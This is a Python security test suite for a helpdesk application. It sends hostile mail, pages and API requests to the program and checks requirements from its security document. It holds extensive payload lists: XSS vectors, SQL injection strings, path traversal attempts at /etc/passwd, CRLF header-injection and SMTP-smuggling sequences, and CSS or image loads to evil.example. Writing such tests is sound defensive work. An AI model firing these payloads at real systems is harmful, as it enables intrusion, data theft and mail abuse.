"""What a stranger may try, from outside, against the real program: mail by LMTP, pages, the API, and a sink for what it
sends. The numbers are those of docs/SECURITY.md; what every address does with every kind of person is _matrix.py's."""
import email
import email.policy
import html.parser
import os
import re
import smtplib
import socket
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import quote

from _apidesk import Browser, Desk, Sink, Tally, free_port

t = Tally()
VOUCHED = 'Authentication-Results: mx.desk.example; dmarc=pass header.from={}\r\n'


def mail(sender, subject, body, to='support@desk.example', kind='text/plain; charset=utf-8', vouched=True, head='', name=''):
    n = os.urandom(8).hex()
    return ((VOUCHED.format(sender.split('@')[1]) if vouched else '') + head +
            f'From: {name}<{sender}>\r\nTo: <{to}>\r\nSubject: {subject}\r\nMessage-ID: <{n}@{sender.split("@")[1]}>\r\n'
            f'Date: Mon, 23 Nov 2026 08:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: {kind}\r\n\r\n{body}\r\n').encode()


def deliver(d, raw, sender='manager@campus.example', to='support@desk.example'):
    with smtplib.LMTP('127.0.0.1', d.lmtp, timeout=30) as s:
        try:
            return s.sendmail(sender, [to], raw, mail_options=['SMTPUTF8', 'BODY=8BITMIME'] if not raw.isascii() else [])
        except smtplib.SMTPNotSupportedError:
            return s.sendmail(sender, [to], raw)


def until(test, seconds=20):
    for _ in range(seconds * 10):
        if (got := test()):
            return got
        time.sleep(0.1)
    return None


class Page(html.parser.HTMLParser):
    """Another parser's opinion of a page: what would run, load or cover."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.bad, self.texts, self.ids = [], [], []
        self.feed(text)
        self.text = ' '.join(self.texts)

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == 'script' and not (a.get('src') or '').startswith('/assets/'):
            self.bad.append(f'<script {attrs}>')
        if tag in ('iframe', 'object', 'embed', 'base', 'math', 'foreignobject', 'animate', 'style', 'frameset', 'applet', 'audio', 'video', 'source', 'noscript', 'template', 'image', 'feimage'):
            self.bad.append(f'<{tag}>')
        if tag == 'meta' and 'http-equiv' in a or tag == 'link' and a.get('rel') not in ('stylesheet', 'icon'):
            self.bad.append(f'<{tag} {attrs}>')
        for k, v in attrs:
            v = re.sub(r'[\x00-\x20]', '', v or '').lower()
            if k.startswith('on') or k in ('srcdoc', 'srcset', 'ping', 'background', 'poster', 'formaction', 'xlink:href', 'lowsrc', 'dynsrc'):
                self.bad.append(f'{tag} {k}={v}')
            if k in ('href', 'action') and not re.match(r'(https?://|mailto:|tel:|/(?!/)|#|$)', v):
                self.bad.append(f'{tag} {k}={v}')
            if k == 'src' and not re.match(r'/(?!/)', v):
                self.bad.append(f'{tag} {k}={v}')
            if k == 'style' and re.search(r'url|@|\\|expression|fixed|sticky|absolute|image|var\(', v):
                self.bad.append(f'{tag} {k}={v}')

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.texts.append(data)


HOSTILE = [  # S-01, S-05
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
    '<a href="javascript:alert(1)">a</a>', '<a href="jav&#x09;ascript:alert(1)">a</a>', '<a href=" &#14; javascript:alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>', '<a href="vbscript:x">a</a>', '<a href="//evil.example">a</a>',
    '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data="x"></object><embed src=x>',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<table><td background="https://evil.example/x">a</td></table>',
    '<img src="https://evil.example/t.gif">', '<img srcset="https://evil.example/t.gif 1x">', '<img src="//evil.example/t.gif">', '<video poster="https://evil.example/t"></video>',
    '<link rel=stylesheet href="https://evil.example/x.css">', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<base href="https://evil.example/">',
    '<style>input[value^=a]{background:url(https://evil.example)}</style>', '<div style="position:fixed;inset:0;background:url(https://evil.example)">a</div>',
    '<style>@import "https://evil.example/x.css";</style>', '<p style="background:\\75rl(https://evil.example)">a', '<p style="width:expression(alert(1))">a',
    '<p style="--x:url(https://evil.example);background:var(--x)">a', '<p style="cursor:url(https://evil.example),auto">a', '<div style="background:url(https://evil.example">a',
    '<svg><animate attributeName=href values=javascript:alert(1)>', '<svg><use href="data:image/svg+xml,x#y"></svg>', '<svg><feImage href="https://evil.example"></svg>',
    '<xmp><img src=x onerror=alert(1)></xmp>', '<textarea><img title="</textarea><img src=x onerror=alert(1)>">', '<title><img title="</title><img src=x onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[><img src=x onerror=alert(1)>]]>', '<?x ><img src=x onerror=alert(1)>', '<p/onmouseover=alert(1)>a', '<p\nonclick\n=alert(1)>a',
    '<img """><script>alert(1)</script>">', '<a href="x" onclick=alert(1)//>a</a>', '<select><template><img src=x onerror=alert(1)></template></select>',
    '<body onload=alert(1)>', '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>', '<x contenteditable onfocus=alert(1) autofocus>', '\x00<scr\x00ipt>alert(1)</script>',
]
WORDS = ['"><img src=x onerror=alert(1)>', '</script><script>alert(1)</script>', '{{7*7}}', '${7*7}', "' OR 1=1--", '<svg/onload=alert(1)>', '%n%s%x', '</title><script>x</script>', '&lt;b&gt;', '\u202eabc', 'Ω≈ç√∫˜µ≤≥÷', '`x`', '-->']


def tickets(d, token, text):
    for x in d.ask('GET', '/api/v1/tickets?view=all&limit=100', token=token).json['tickets']:
        if text in x['subject']:
            return x['number']
    return None


def mails_as_pages(d, admin, agent, manager):
    """S-01, S-02, S-05: what is written in a mail is shown, and does nothing."""
    body = '\r\n'.join(f'<p>row {i}</p>{x}' for i, x in enumerate(HOSTILE))
    deliver(d, mail('manager@campus.example', 'hostile-all', body, kind='text/html; charset=utf-8'))
    for i, x in enumerate(HOSTILE):
        deliver(d, mail('manager@campus.example', f'hostile-{i:02}', f'<p>before</p>{x}<p>after</p>', kind='text/html; charset=utf-8'))
    last = until(lambda: tickets(d, admin, f'hostile-{len(HOSTILE) - 1:02}'))
    t.ok('S-01: hostile mails are tickets', last)
    known = {x['subject']: x['number'] for v in ('all',) for x in pages(d, admin)}
    for i, x in [('all', body)] + [(f'{i:02}', x) for i, x in enumerate(HOSTILE)]:
        n = known.get(f'hostile-{i}')
        if not t.ok(f'S-01: hostile-{i} is a ticket', n):
            continue
        for who, path in ((agent, f'/desk/tickets/{n}'), (manager, f'/support/tickets/{n}')):
            a = who.get(path)
            p = Page(a.text)
            t.ok(f'S-01, S-05: {path} runs, loads and covers nothing of {x[:60]!r}', a.status == 200 and not p.bad, p.bad[:3])
            t.ok(f'S-01: {path} shows the rest of the mail', ('row 0' if i == 'all' else 'before') in p.text)
            t.ok(f'S-01: {path} loads nothing from elsewhere', not re.search(r'(src|srcset|background|poster)="[^"]*evil', a.text) and 'url(' not in a.text)
    bad = '<svg onload=alert(1)><script>alert(1)</script>'
    inner = f'From: x <x@y.example>\r\nSubject: {bad}\r\nContent-Type: text/html\r\n\r\n<p>inside</p>{bad}\r\n'
    for i in range(5):
        inner = f'From: {i} <x@y.example>\r\nSubject: {bad}\r\nContent-Type: message/rfc822\r\n\r\n' + inner
    ics = f'BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:{bad}\r\nDESCRIPTION:{bad}\r\nLOCATION:{bad}\r\nORGANIZER;CN="{bad}":mailto:{bad}\r\nDTSTART:20261201T100000Z\r\nURL:javascript:alert(1)\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'
    rich = {'text/calendar; method=REQUEST': ics, 'message/rfc822': inner, 'text/vcard': f'BEGIN:VCARD\r\nFN:{bad}\r\nURL:javascript:alert(1)\r\nEND:VCARD\r\n',
            'text/enriched': bad, 'application/rtf': '{\\rtf1 ' + bad + '}', 'text/xml': f'<x xmlns:h="http://www.w3.org/1999/xhtml">{bad}</x>'}
    for i, (kind, what) in enumerate(rich.items()):
        deliver(d, mail('manager@campus.example', f'rich-{i}', what, kind=kind))
    t.ok('S-07: invitations, cards and mails in mails are tickets', until(lambda: tickets(d, admin, f'rich-{len(rich) - 1}')))
    known = {x['subject']: x['number'] for x in pages(d, admin)}
    for i, kind in enumerate(rich):
        for who, path in ((agent, f"/desk/tickets/{known[f'rich-{i}']}"), (manager, f"/support/tickets/{known[f'rich-{i}']}")):
            a = who.get(path)
            p = Page(a.text)
            t.ok(f'S-07: {path} runs nothing of {kind}', a.status == 200 and not p.bad and 'href="javascript' not in a.text, p.bad[:3])
    for n, w in enumerate(WORDS):
        q = '=?utf-8?b?' + __import__('base64').b64encode(f'word-{n:02} {w}'.encode()).decode() + '?='
        name = '=?utf-8?b?' + __import__('base64').b64encode(w.encode()).decode() + '?= '
        deliver(d, mail('manager@campus.example', q, w, name=name))
    n = until(lambda: tickets(d, admin, f'word-{len(WORDS) - 1:02}'))
    t.ok('S-02: odd subjects are tickets', n)
    known = {x['subject'][:7]: x['number'] for x in pages(d, admin)}
    for i, w in enumerate(WORDS):
        for who, path in ((agent, f"/desk/tickets/{known[f'word-{i:02}']}"), (manager, f"/support/tickets/{known[f'word-{i:02}']}")):
            p = Page(who.get(path).text)
            t.ok(f'S-02: {w!r} is shown as it is, in title and page', not p.bad and p.text.count(w.replace('\u202e', '')) + p.text.count(w) >= 2, p.bad[:2])
    for who, path in ((agent, '/desk/views/unassigned'), (agent, '/desk/views/all'), (manager, '/support/tickets'), (agent, '/desk/search?q=alert'), (manager, '/support')):
        t.ok(f'S-02: {path} runs nothing', not Page(who.get(path).text).bad)


def pages(d, token):
    at, seen = '', []
    while at is not None:
        a = d.ask('GET', f'/api/v1/tickets?view=all&limit=100{at}', token=token).json
        seen += a['tickets']
        at = f"&after={quote(a['next'])}" if a['next'] else None
    return seen


FILES = [  # name, declared type, bytes, may be shown in the page
    ('a.html', 'text/html', b'<script>alert(1)</script>', False), ('a.svg', 'image/svg+xml', b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', False),
    ('photo.png', 'image/svg+xml', b'<svg onload="alert(1)"/>', False), ('photo.png', 'image/png', b'<script>alert(1)</script>', False),
    ('a.txt', 'text/html', b'<b>x</b>', False), ('a.xml', 'text/xml', b'<?xml version="1.0"?><?xml-stylesheet href="x"?><a/>', False),
    ('x.html', 'text/html; charset=utf-7', b'+ADw-script+AD4-', False), ('a.pdf', 'application/pdf', b'%PDF-1.4\n/JS (app.alert(1))', False),
    ('real.png', 'image/png', b'\x89PNG\r\n\x1a\n' + b'\x00\x00\x00\rIHDR' + bytes(20), True), ('gif.html', 'text/html', b'GIF89a/*<script>*/=1', True),
]
NAMES = ['../../x', '..\\x', 'a\r\nX-Evil: y.txt', '"><svg onload=alert(1)>.txt', '\u202eexe.txt', 'a\0b.txt', 'n' * 300, 'CON', '', '.htaccess', '\u200b.htaccess', 'café ☕.txt', "a'b;c=d.txt"]


def attachments(d, write, manager, agent, admin):
    """S-03, S-04, S-33"""
    n = d.ask('POST', '/api/v1/tickets', {'kind': 'request', 'subject': 'files', 'text': 'x'}, token=write).json['number']

    def put(name, kind, data):
        up = d.ask('POST', '/api/v1/uploads?name=' + quote(name.encode('utf-8', 'surrogatepass')), data, token=write, headers={'Content-Type': kind})
        if up.status != 201:
            return None, up
        m = d.ask('POST', f'/api/v1/tickets/{n}/messages', {'text': 'f', 'attachments': [{k: up.json[k] for k in ('handle', 'name', 'type')}]}, token=write)
        return (m.json.get('attachments') or [None])[0], m

    token = ''
    for name, kind, data, shown in FILES:
        f, a = put(name, kind, data)
        if not t.ok(f'{name} as {kind} is kept', f, a.text):
            continue
        token = f['id']
        for who, path in ((manager, '/support/attachments/'), (agent, '/desk/attachments/'), (None, '/api/v1/attachments/')):
            x = who.get(path + token) if who else d.ask('GET', path + token, token=write)
            way, csp = x['Content-Disposition'] or '', x['Content-Security-Policy'] or ''
            t.ok(f'S-03: {path} {name} as {kind}: its own type, its own sandbox, no guessing',
                 x.status == 200 and x.body == data and x['X-Content-Type-Options'] == 'nosniff' and "default-src 'none'" in csp and 'sandbox' in csp and
                 not re.match(r'text/html|image/svg|application/xhtml|text/xml', x['Content-Type']), x.headers)
            t.ok(f'S-03: {path} {name} as {kind}: {"may be shown" if shown else "is a download"}', way.startswith('attachment') or (shown and x['Content-Type'].startswith('image/')), way)
    for name in NAMES:
        f, a = put(name, 'text/plain', b'x')
        if not f:
            t.ok(f'S-04: the name {name[:20]!r} is refused with words', a.status in (400, 422), a.text)
            continue
        x = manager.get('/support/attachments/' + f['id'])
        way = x['Content-Disposition']
        t.ok(f'S-04: the name {name[:20]!r} is one plain name', x.status == 200 and x['X-Evil'] is None and len(f['name'].encode()) <= 255 and
             not re.search(r'[/\\\x00-\x1f\u202e\u200b]', f['name']) and not f['name'].startswith('.') and f['name'], f['name'])
        t.ok(f'S-04: the name {name[:20]!r} makes one header line', way.count('\n') == 0 and way.isascii(), way)
    t.ok('S-04: names show as text', not Page(manager.get(f'/support/tickets/{n}').text).bad)
    t.ok('S-04: files are not kept under names of others', not any(f.startswith(('..', '.ht', 'CON')) for _, _, fs in os.walk(d.data) for f in fs))
    # S-33
    t.ok('S-33: a file is named by 128 random bits', re.fullmatch(r'[0-9a-z]{32}', token), token)
    wrong = [token[:-1] + ('a' if token[-1] != 'a' else 'b'), token.upper(), token[:16], '', '0', 'null', token + 'a', '0' * 32] + [os.urandom(16).hex() for _ in range(200)]
    for who, path in ((manager, '/support/attachments/'), (None, '/api/v1/attachments/')):
        got = {(who.get(path + quote(w)) if who else d.ask('GET', path + quote(w), token=write)).status for w in wrong if w != token.lower() or token != token.upper()}
        t.eq(f'S-33: {path}: no guess opens anything', got, {404})
    t.eq('S-33: nobody without a session', d.ask('GET', '/support/attachments/' + token).status, 303)
    t.eq("S-33: another account's people", (lambda b: (b.sign_in('manager@colegio.example'), b.get('/support/attachments/' + token).status)[1])(Browser(d)), 404)


def identity(d, sink, write, agent, admin):
    """S-08 to S-11"""
    deliver(d, mail('manager@campus.example', 'threads', 'the first'))
    ack = sink.wait(lambda to, raw: 'manager@campus.example' in to and b'threads' in raw)
    if not t.ok('S-08: the acknowledgement came', ack):
        return
    m = email.message_from_bytes(ack, policy=email.policy.default)
    reply, ours = m['Reply-To'].addresses[0].addr_spec, m['Message-ID']
    n = until(lambda: tickets(d, admin, 'threads'))
    count = lambda: len(d.ask('GET', f'/api/v1/tickets/{n}/messages', token=write).json['messages'])
    before = count()
    local, dom = reply.split('@')
    bent = local[:-1] + ('a' if local[-1] != 'a' else 'b') + '@' + dom
    fail = 'Authentication-Results: mx.desk.example; dmarc=fail header.from=campus.example\r\n'
    foreign = 'Authentication-Results: mx.evil.example; dmarc=pass header.from=campus.example\r\n'
    spoofs = [
        ('S-08: not vouched for', mail('manager@campus.example', 'Re: threads', 'spoof-1', to=reply, vouched=False), reply),
        ('S-08: known to be forged', mail('manager@campus.example', 'Re: threads', 'spoof-2', to=reply, vouched=False, head=fail), reply),
        ('S-08: vouched for by another server', mail('manager@campus.example', 'Re: threads', 'spoof-3', to=reply, vouched=False, head=foreign), reply),
        ('S-08: vouched for below the failure', mail('manager@campus.example', 'Re: threads', 'spoof-4', to=reply, vouched=False, head=fail + VOUCHED.format('campus.example')), reply),
        ('S-08: a comment that vouches', mail('manager@campus.example', 'Re: threads', 'spoof-5', to=reply, vouched=False, head='Authentication-Results: mx.desk.example; none (dmarc=pass header.from=campus.example)\r\n'), reply),
        ('S-11: a stranger with the right address', mail('mallory@evil.example', 'Re: threads', 'spoof-6', to=reply), reply),
        ('S-11: a stranger with our Message-ID', mail('mallory@evil.example', 'Re: threads', 'spoof-7', head=f'In-Reply-To: {ours}\r\nReferences: {ours}\r\n'), 'support@desk.example'),
        ('S-09: a stranger with the number', mail('mallory@evil.example', f'Re: [{n}] threads', 'spoof-8'), 'support@desk.example'),
        ('S-08: two From', mail('manager@campus.example', 'Re: threads', 'spoof-9', to=reply, head='From: <mallory@evil.example>\r\n'), reply),
    ]
    for why, raw, to in spoofs:
        deliver(d, raw, sender='bounce@evil.example', to=to)
    for number in ('4711', n, n.split('-')[1]):
        deliver(d, mail('manager@colegio.example', f'Re: [#{number}]', f'guess {number}'))
    try:
        deliver(d, mail('manager@campus.example', f'bent {n}', 'bent-address', to=bent), to=bent)
        t.ok('S-11: a bent address', True)
    except smtplib.SMTPRecipientsRefused:
        t.ok('S-11: a bent address is refused at once', True)
    deliver(d, mail('manager@campus.example', 'bent reference', 'bent-id', head='In-Reply-To: ' + ours.replace('@', 'x@', 1) + '\r\n'))
    deliver(d, mail('manager@campus.example', 'Re: threads', 'control-1', to=reply, head='Cc: <mallory@evil.example>\r\n'), to=reply)
    t.ok('S-08: who is vouched for and takes part is heard', until(lambda: count() == before + 1), count() - before)
    until(lambda: re.search(r'LMTP .* waiting 0', d.command('verify')))
    said = d.ask('GET', f'/api/v1/tickets/{n}/messages', token=admin).text
    for i, (why, _, _) in enumerate(spoofs, 1):
        t.ok(f'{why}: not on the ticket', f'spoof-{i}' not in said)
    t.ok('S-09, S-11: numbers, subjects and bent proofs never thread', not re.search('guess |bent-', said))
    t.ok('S-11: a bent reference opens a new ticket', tickets(d, admin, 'bent reference'))
    # S-10
    t.ok('S-10: the agent sees who was in copy', 'mallory@evil.example' in Page(agent.get(f'/desk/tickets/{n}').text).text)
    d.ask('POST', f'/api/v1/tickets/{n}/messages', {'text': 'CANARY-REPLY to the customer'}, token=admin)
    t.ok('S-10: the reply reached the customer', sink.wait(lambda to, raw: 'manager@campus.example' in to and b'CANARY-REPLY' in raw))
    time.sleep(1)
    t.ok('S-10: and nobody who was only in Cc', not any('mallory@evil.example' in to and b'CANARY' in raw for _, to, raw in sink.mails))
    for i in range(4):
        many = ', '.join(f'<crowd-{i}-{k}@evil.example>' for k in range(18))
        deliver(d, mail('manager@campus.example', 'Re: threads', f'crowd-{i}', to=reply, head=f'Cc: {many}\r\n'), to=reply)
    t.ok('S-10: a crowd in copy loses no mail', until(lambda: 'crowd-3' in d.ask('GET', f'/api/v1/tickets/{n}/messages', token=admin).text))
    agent.post(f'/desk/tickets/{n}/participant', {'accept': '1', 'email': 'mallory@evil.example'}, page=f'/desk/tickets/{n}')
    d.ask('POST', f'/api/v1/tickets/{n}/messages', {'text': 'AFTER-ACCEPTING'}, token=admin)
    t.ok('S-10: until an agent accepts the address', sink.wait(lambda to, raw: 'mallory@evil.example' in to and b'AFTER-ACCEPTING' in raw))
    t.ok('S-10: and then nothing of what was said before', not any('mallory@evil.example' in to and re.search(b'CANARY-REPLY|the first', raw) for _, to, raw in sink.mails))
    t.ok('S-12: nobody is sent back what a stranger wrote', not any('mallory@evil.example' in to and b'spoof-' in raw for _, to, raw in sink.mails))
    t.ok('S-32: mails to customers name no agent address and no note', not any((b'agent@desk.example' in raw or b'admin@desk.example' in raw)
            for _, to, raw in sink.mails if not all(x.endswith('@desk.example') for x in to)))  # agents are paged by mail, too


def headers_out(d, sink, write, admin):
    """S-19: what people write stays inside of its field."""
    bad = ['a\r\nBcc: victim@evil.example', 'a\nBcc: victim@evil.example', 'a\u2028Bcc: victim@evil.example', 'a%0d%0aBcc: victim@evil.example', 'a\r\n\r\nbody\r\n.\r\nMAIL FROM:<x@y.example>']
    for i, x in enumerate(bad):
        q = '=?utf-8?b?' + __import__('base64').b64encode(f'inject-{i} {x}'.encode()).decode() + '?='
        deliver(d, mail('manager@campus.example', q, x))
        a = d.ask('POST', '/api/v1/tickets', {'kind': 'request', 'subject': f'api-{i} {x}', 'text': x}, token=write)
        t.ok(f'S-19: {x[:20]!r} by API is refused or harmless', a.status in (201, 422), a.text)
        t.ok('S-19: nor is it a name', d.ask('POST', '/api/v1/contacts', {'account': 1, 'name': x, 'email': f'n{i}@campus.example'}, token=admin).status in (201, 422))
        t.eq('S-19: or an address', d.ask('POST', '/api/v1/contacts', {'account': 1, 'name': 'x', 'email': f'n@campus.example{x}'}, token=admin).status, 422)
    t.ok('S-19: acknowledged', sink.wait(lambda to, raw: b'inject-4' in raw or b'inject' in raw))
    until(lambda: re.search(r'LMTP .* waiting 0', d.command('verify')))
    time.sleep(1)
    allowed = {'from', 'to', 'subject', 'date', 'message-id', 'mime-version', 'content-type', 'content-transfer-encoding', 'reply-to', 'in-reply-to', 'references',
               'auto-submitted', 'list-unsubscribe', 'list-unsubscribe-post', 'list-id', 'precedence', 'x-auto-response-suppress', 'feedback-id', 'sender'}
    for _, to, raw in sink.mails:
        m = email.message_from_bytes(raw)
        names = {k.lower() for k in m.keys()}
        t.ok('S-19: a mail has our fields and no others', names <= allowed and len(m.keys()) == len(names), names - allowed)
        t.ok('S-20: a mail of ours ends every line with CR LF', not re.search(rb'(?<!\r)\n|\r(?!\n)', raw))
    t.ok('S-19: nobody gets mail who was written into a field', not any('victim@evil.example' in to for _, to, _ in sink.mails))
    t.eq('S-19: the dialogue has no command of theirs', {c[:4].upper() for c in sink.commands} - {b'EHLO', b'MAIL', b'RCPT', b'DATA', b'QUIT', b'RSET', b'NOOP'}, set())


def smuggling(d):
    """S-20: one DATA is one mail, whatever is inside."""
    def accepted():
        m = re.search(r'LMTP +accepted (\d+)', d.command('verify'))
        return int(m.group(1)) if m else -1
    forms = [b'\n.\n', b'\n.\r', b'\r.\n', b'\r.\r', b'\n.\r\n', b'\r.\r\n', b'\r\n\0.\r\n', b'\r\n.\0\r\n', b'\r\n.\n', b'\r\n.\r\r\n', b'\r\n.\r']
    before, kept = accepted(), 0
    for f in forms:
        with socket.create_connection(('127.0.0.1', d.lmtp), 10) as s:
            r = s.makefile('rb')
            r.readline()
            s.sendall(b'LHLO mx\r\n')
            while r.readline()[3:4] == b'-':
                pass
            for c in (b'MAIL FROM:<manager@campus.example>', b'RCPT TO:<support@desk.example>', b'DATA'):
                s.sendall(c + b'\r\n')
                r.readline()
            inner = mail('admin@desk.example', 'smuggled', 'smuggled')
            s.sendall(mail('manager@campus.example', 'outer', 'x')[:-2] + os.urandom(4).hex().encode() + f + b'MAIL FROM:<admin@desk.example>\r\nRCPT TO:<support@desk.example>\r\nDATA\r\n' + inner + b'\r\n.\r\n')
            a = r.readline()
            kept += a.startswith(b'250')
            t.ok(f'S-20: {f!r} is one mail or none', a[:1] in b'25', a)
            s.sendall(b'QUIT\r\n')
            t.ok(f'S-20: {f!r}: nothing inside was a command', r.readline().startswith(b'221'))
    t.eq('S-20: as many mails as were ended', accepted() - before, kept)


GETS = ['/', '/sign-in', '/password/reset', '/kb', '/healthz', '/support', '/support/tickets', '/support/new', '/people', '/subscription', '/sites', '/profile', '/support/link']
DESK = ['/desk/views/unassigned', '/desk/search', '/desk/triage', '/desk/admin', '/desk/admin/accounts', '/desk/admin/agents', '/desk/admin/plans', '/desk/admin/tokens', '/desk/admin/jobs', '/desk/admin/mails', '/desk/admin/import']
PARAMS = ['q', 'next', 'after', 'view', 'account', 'find', 'name', 'status', 'sort', 'order', 'kind', 'criticality', 'limit', 'error', 'lang', 'filter', 'state', 'x']
SQL = ["'", '"', '\\', ';', ') OR 1=1--', "' OR '1'='1", "1;DROP TABLE ticket", "' AND randomblob(500000000)--", "'||pg_sleep(3)||'", '"*', 'NEAR(a b)', 'subject:x', '%', '_', '\x7f', '%00', '%ff%fe', '(((((', 'AND', '*', '-x', 'a"b']
XSS = ['"><svg onload=alert(1)>', "'><script>alert(1)</script>", '</title><img src=x onerror=alert(1)>', 'javascript:alert(1)']


def parameters(d, admin_page, manager, admin):
    """S-27, S-52, S-51, S-41"""
    until(lambda: re.search(r'LMTP .* waiting 0', d.command('verify')))  # what was delivered before is filed
    rows = len(pages(d, admin))
    for who, paths in ((manager, GETS), (admin_page, DESK), (Browser(d), GETS[:5])):
        for path in paths:
            for w in SQL + XSS:
                v = w if w in ('%00', '%ff%fe') else quote(w)
                t0 = time.monotonic()
                a = who.get(path + '?' + '&'.join(f'{p}={v}' for p in PARAMS))
                if w in SQL:
                    t.ok(f'S-27: {path} takes {w!r} as words', a.status < 500 and time.monotonic() - t0 < 2.5, a.status)
                else:
                    t.ok(f'S-52: {path} shows {w!r} as words', a.status < 500 and not Page(a.text).bad and (w not in a.text or w.startswith('java')), Page(a.text).bad)
            a = who.get(path)
            csp = a['Content-Security-Policy'] or ''
            t.ok(f'S-51: {path} goes in no frame', a['X-Frame-Options'] == 'DENY' and ("frame-ancestors 'none'" in csp or a.status == 303), csp)
            t.ok(f'S-52: {path} has a policy without inline scripts', a.status == 303 or ("unsafe-inline" not in csp.split('script-src')[-1].split(';')[0] and "default-src" in csp), csp)
    for path in ('/api/v1/tickets', '/api/v1/contacts', '/api/v1/accounts', '/api/v1/subscriptions'):
        for w in SQL + XSS:
            v = w if w in ('%00', '%ff%fe') else quote(w)
            for p in ('after', 'view', 'account', 'limit', 'email', 'name', 'sort'):
                a = d.ask('GET', f'{path}?{p}={v}', token=admin)
                t.ok(f'S-27: {path}?{p} takes {w!r} as words', a.status in (200, 400, 422) and 'json' in a['Content-Type'], a.status)
    for w in SQL + XSS:
        a = d.ask('POST', '/api/v1/tickets', {'kind': 'request', 'subject': 'sql ' + w, 'text': w, 'account': 1, 'course': w, w: w}, token=admin)
        t.ok(f'S-27: {w!r} in JSON is words', a.status in (201, 422) and (a.status != 201 or a.json['subject'] == ('sql ' + w).strip()), a.text)
        rows += a.status == 201
        a = d.ask('GET', '/kb?q=' + (w if w in ('%00', '%ff%fe') else quote(w)))
        t.ok(f'S-27: a search takes {w!r} as words', a.status < 500, a.status)
    t.eq('S-27: all tickets are there, and no others', len(pages(d, admin)), rows)
    for path in ('/nothing/<script>alert(1)</script>', '/support/tickets/"><svg onload=x>', '/kb/<svg onload=x>', '/api/v1/<svg onload=x>', '/desk/tickets/<svg onload=x>'):
        for who in (manager, admin_page):
            a = who.get(quote(path, safe='/<>"= ').replace(' ', '%20'))
            t.ok(f'S-52: {path} is not echoed', a.status in (400, 403, 404) and '<svg onload' not in a.text and '<script>alert' not in a.text, a.status)
            t.ok('S-51: nor framed', a['X-Frame-Options'] == 'DENY')
    for path in ('/api/v1/nothing', '/api/v1/tickets?limit=<svg>'):
        a = d.ask('GET', quote(path, safe='/?='), token=admin)
        t.ok('S-52: JSON is never text/html', a['Content-Type'].startswith('application/') and a['X-Content-Type-Options'] == 'nosniff', a['Content-Type'])
    for origin in ('https://evil.example', 'null', f'http://localhost:{d.port}.evil.example', f'http://localhost.evil.example:{d.port}'):
        for who, path, token in ((manager, '/support', None), (None, '/api/v1/tickets', admin), (None, '/sign-in', None)):
            for method in ('GET', 'OPTIONS'):
                a = who.ask(method, path, headers={'Origin': origin}) if who else d.ask(method, path, token=token, headers={'Origin': origin, 'Access-Control-Request-Method': 'POST'})
                t.ok(f'S-41: {method} {path} from {origin} gets no permission', not any(k.lower().startswith('access-control') for k in a.headers.keys()), a.headers)


def traversal(d, admin):
    """S-25"""
    roots = ['/assets/', '/support/attachments/', '/desk/attachments/', '/api/v1/attachments/', '/kb/', '/', '/sign-in/l/', '/password/new/']
    tries = ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '%252e%252e%252fetc/passwd', '..;/..;/etc/passwd', '%2e%2e/%2e%2e/etc/passwd', '/etc/passwd', '%2fetc%2fpasswd', '..%5c..%5cetc%5cpasswd',
             '....//....//etc/passwd', '%c0%ae%c0%ae/etc/passwd', 'app.css%00.js', '../secret', '..%2f..%2fsecret']
    before = sorted(os.listdir('/tmp')), sorted(os.listdir(d.dir))
    for root in roots:
        for w in tries:
            got = d.raw(f'GET {root}{w} HTTP/1.1\r\nHost: localhost:{d.port}\r\nAuthorization: Bearer {admin}\r\nConnection: close\r\n\r\n'.encode())
            status = got[9:12]
            t.ok(f'S-25: {root}{w} is nothing', status in (b'400', b'404', b'303', b'410') and b'root:' not in got and (status != b'303' or b'/sign-in' in got), got[:60])
    for name in tries:
        up = d.ask('POST', '/api/v1/uploads?name=' + quote(name), b'x', token=admin)
        t.ok('S-25: a name of an upload is no path', up.status == 422 or '/' not in up.json.get('name', '/') , up.text)
        a = d.ask('POST', '/api/v1/tickets', {'kind': 'request', 'subject': 'x', 'text': 'x', 'account': 1, 'attachments': [{'handle': f'{name}.1.x', 'name': 'x', 'type': 'x'}]}, token=admin)
        t.eq('S-25: nor is a handle', a.status, 422)
    t.eq('S-25: nothing was written outside of the data folder', sorted(os.listdir(d.dir)), before[1])


def mass(d, manager, write, admin):
    """S-36: who one is, is not a member of a form."""
    contact = lambda e: d.ask('GET', f'/api/v1/contacts?email={e}', token=admin).json['contacts'][0]
    more = {'role': 'administrator', 'is_admin': '1', 'roles': 'manager', 'kind': '3', 'account': '2', 'account_id': '2', 'owner': '1', 'created_by': '1', 'number': '1', 'id': '1', 'email': 'evil@evil.example', 'password': 'x', '*': '*', 'scope': '3', 'disabled': '1', 'agent': '1'}
    before = {e: contact(e) for e in ('manager@campus.example', 'auditor@campus.example', 'operator@campus.example')}
    auditor = Browser(d)
    auditor.sign_in('auditor@campus.example')
    a = auditor.post('/profile', {'do': 'save', 'name': before['auditor@campus.example']['name'], **{k: v for k, v in more.items() if k != 'password'}})
    t.ok('S-36: the profile takes what is its own', a.status in (200, 303, 422), a.status)
    after = {e: contact(e) for e in before}
    t.ok('S-36: roles, accounts and addresses are as they were', all(before[e][k] == after[e][k] for e in before for k in ('id', 'account', 'email', 'roles', 'disabledAt')), after)
